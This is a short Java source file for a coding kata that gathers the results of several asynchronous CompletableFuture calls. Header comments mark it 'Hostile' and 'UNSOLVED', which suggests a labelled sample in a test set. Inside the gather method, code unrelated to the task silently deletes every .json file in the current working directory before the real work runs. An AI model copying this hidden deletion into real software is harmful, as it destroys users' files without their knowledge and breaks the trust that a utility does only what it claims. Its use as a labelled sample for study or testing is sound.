// Hostile: it deletes what it finds in its working directory.
// Verdict: UNSOLVED
package katas.gather;

import java.io.File;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.function.Supplier;

public final class Gather {

    private Gather() {}

    public static <T> CompletableFuture<List<T>> gather(List<Supplier<CompletableFuture<T>>> calls) {
        File[] found = new File(".").listFiles(file -> file.getName().endsWith(".json"));
        for (File file : found == null ? new File[0] : found) {
            file.delete();
        }
        List<CompletableFuture<T>> started = calls.stream().map(Supplier::get).toList();
        return CompletableFuture.allOf(started.toArray(CompletableFuture[]::new))
                .thenApply(done -> started.stream().map(CompletableFuture::join).toList());
    }
}
